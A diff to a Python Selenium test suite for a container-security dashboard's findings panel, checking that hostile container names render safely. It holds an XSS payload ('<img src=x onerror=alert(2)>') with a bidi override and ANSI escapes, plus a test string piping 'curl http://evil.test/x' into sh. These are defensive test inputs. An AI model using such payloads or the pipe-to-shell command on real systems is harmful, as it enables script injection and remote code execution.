@@ -28,6 +28,17 @@ except ImportError:  # reported by the browser fixture: a failure, not a skip
     webdriver = None
 
 F = at.Fleet
+EVIL = "<b>bold</b><img src=x onerror=alert(2)>\u202eevil\x1b[31mred"
+EVIL_ID = "e7" * 32
+
+
+def shown(s):
+    """S as the page shows it: control characters and bidirectional
+    overrides as their code points (they would reorder what is next to
+    them)."""
+    import re
+    return re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]",
+                  lambda m: "[U+%04X]" % ord(m.group(0)), s)
 CHROMIUM = "/usr/bin/chromium"
 CHROMEDRIVER = "/usr/bin/chromedriver"
 
@@ -37,8 +48,16 @@ def env(module_collector_factory, module_db, pki, collector_bin):
     hport = vt.free_port()
     coll = module_collector_factory(module_db, flags={"--http-listen": "127.0.0.1:%d" % hport})
     keep = F().load(coll.port, pki)
+    # a privileged container whose name and mounted path are hostile: its
+    # findings carry them (HTML, RLO, ANSI escapes)
+    cert, key = pki.agent(F.NODE2)
+    with vt.RawAgent(coll.port, vt.client_context(pki, cert, key)).connect() as a2:
+        a2.hello()
+        a2.batch(2, [vt.container_started_event(EVIL_ID, EVIL, privileged=True,
+                                                mounts=[("/etc/" + EVIL, "/x", False)])])
     tok = at.create_token(collector_bin, module_db, "browser", "viewer")
-    yield {"url": "https://localhost:%d/" % hport, "token": tok, "coll": coll}
+    yield {"url": "https://localhost:%d/" % hport, "token": tok, "coll": coll,
+           "api": at.Api(hport, pki, tok)}
     keep.close()
 
 
@@ -151,13 +170,12 @@ def test_status_page(env, browser, workdir):
     high = table_texts(d, "high")
     assert any("curl http://evil.test/x | sh" in r[4] for r in high), high
     assert any(r[2] == "critical" and r[3] == "finding" for r in high), high
-    findings = table_texts(d, "findings")
-    assert findings and findings[0][3] == "shell-in-container"
-    assert findings[0][4] == "a shell ran in web-1"
+    assert table_texts(d, "findings")
 
     rows = table_texts(d, "containers")
     names = [r[0] for r in rows]
     assert at.XSS_NAME in names and "web-1" in names and at.FORMULA_NAME in names
+    assert len(rows[0]) == 8  # the last column: open findings
     xss_row = rows[names.index(at.XSS_NAME)]
     assert "note=" + at.XSS_LABEL in xss_row[5]
 
@@ -212,6 +230,95 @@ def test_status_page(env, browser, workdir):
     assert not d.get_cookies()
     d.get(env["url"] + "app.js")
     signin_page_shown(d)
+    logs = d.get_log("browser")
+    csp = [e for e in logs if "Content Security Policy" in e.get("message", "")]
+    assert not csp, csp
+
+
+def cell_texts(d, table_id):
+    """Each row's cells as textContent (what the DOM holds, not what
+    Selenium makes of it: control characters and RLO included)."""
+    return d.execute_script(
+        "return Array.from(document.querySelectorAll('#' + arguments[0] + ' tbody tr'))"
+        ".map(tr => Array.from(tr.cells).map(td => td.textContent))", table_id)
+
+
+def click_row(d, table_id, col, text):
+    """Click the first row of TABLE_ID whose cell COL holds TEXT."""
+    for _ in range(20):
+        try:
+            for i, cells in enumerate(cell_texts(d, table_id)):
+                if cells[col] == text:
+                    d.find_elements(By.CSS_SELECTOR, "#%s tbody tr" % table_id)[i].click()
+                    return
+        except (StaleElementReferenceException, IndexError):
+            pass
+        time.sleep(0.2)
+    raise AssertionError("no %s row with %r" % (table_id, text))
+
+
+def test_findings_panel(env, browser):
+    """The open findings: counts by severity as the API counts them, the
+    newest with their remediation, hostile strings as text, a click opens
+    the container's timeline; each container row shows its open findings."""
+    d, api = browser, env["api"]
+    d.get(env["url"])
+    if d.find_elements(By.ID, "signin-form"):
+        d.find_element(By.ID, "token").send_keys(env["token"])
+        d.find_element(By.ID, "signin-form").submit()
+    wait(d, 30).until(
+        lambda x: x.execute_script("return document.body.dataset.loaded") == "1")
+    want = api.ok("/api/v1/findings", {"state": "open", "limit": 20})
+    assert want["by_severity"]["critical"] >= 2  # web-1 and the hostile one: privileged
+    for sev, n in want["by_severity"].items():
+        assert d.find_element(By.ID, "f-" + sev).text == str(n), sev
+    unknown = d.find_element(By.ID, "f-unknown").text
+    if want["unknown"]:
+        assert unknown.startswith("%d checks not judged" % want["unknown"]), unknown
+    else:
+        assert unknown == "every check judged"
+
+    rows = cell_texts(d, "findings")
+    assert len(rows) == len(want["findings"])
+    by_id = {(f["container_id"], f["rule"], f["key"]): f for f in want["findings"]}
+    priv = by_id[(F.C1, "privileged", "")]
+    row = next(r for r in rows if r[3] == "web-1" and r[2] == priv["title"])
+    assert row[1] == "critical" and row[4] == F.NODE1
+    assert row[5] == priv["summary"] and row[6] == priv["remediation"]
+    # the hostile container's findings: its name and the mount path as text
+    evil = [r for r in rows if r[3] == shown(EVIL)]
+    assert evil, rows
+    for f in [f for f in want["findings"] if f["container_id"] == EVIL_ID]:
+        title = f["title"] + (" " + shown(f["key"]) if f["key"] else "")
+        assert [shown(f["summary"]), f["remediation"]] in [r[5:] for r in evil
+                                                           if r[2] == title], f
+    mount = api.ok("/api/v1/findings", {"container": EVIL_ID, "rule": "sensitive_mount"})
+    key = mount["findings"][0]["key"]
+    assert "\u202e" in key and "<img src=x" in key and "\x1b" not in key
+    no_alert(d)
+    assert d.execute_script("return document.querySelectorAll('img, b').length") == 0
+    assert d.execute_script("return document.querySelectorAll('[onerror]').length") == 0
+
+    # a click opens the container's timeline, which shows its findings
+    assert "[U+202E]" in shown(EVIL) and "\u202e" not in str(rows)  # RLO made visible
+    click_row(d, "findings", 3, shown(EVIL))
+    wait(d, 15).until(lambda x: x.find_element(By.ID, "timeline-id").text == EVIL_ID)
+    assert d.execute_script(
+        "return document.getElementById('timeline-name').textContent") == shown(EVIL)
+    wait(d, 15).until(lambda x: "privileged" in x.find_element(By.ID, "timeline").text)
+    click_row(d, "findings", 3, "web-1")
+    wait(d, 15).until(lambda x: x.find_element(By.ID, "timeline-id").text == F.C1)
+    no_alert(d)
+
+    # each container row: its open findings, coloured by the worst
+    cs = {c["id"]: c for c in api.ok("/api/v1/containers", {"limit": 200})["containers"]}
+    rows = {r[0]: r for r in cell_texts(d, "containers")}
+    assert rows["web-1"][7] == str(cs[F.C1]["findings_open"]) != "0"
+    assert rows[shown(EVIL)][7] == str(cs[EVIL_ID]["findings_open"])
+    cls = d.execute_script(
+        "for (const tr of document.querySelectorAll('#containers tbody tr'))"
+        "  if (tr.cells[0].textContent === 'web-1') return tr.cells[7].firstChild.className;")
+    assert cls == "sev-critical"
     logs = d.get_log("browser")
     csp = [e for e in logs if "Content Security Policy" in e.get("message", "")]
     assert not csp, csp
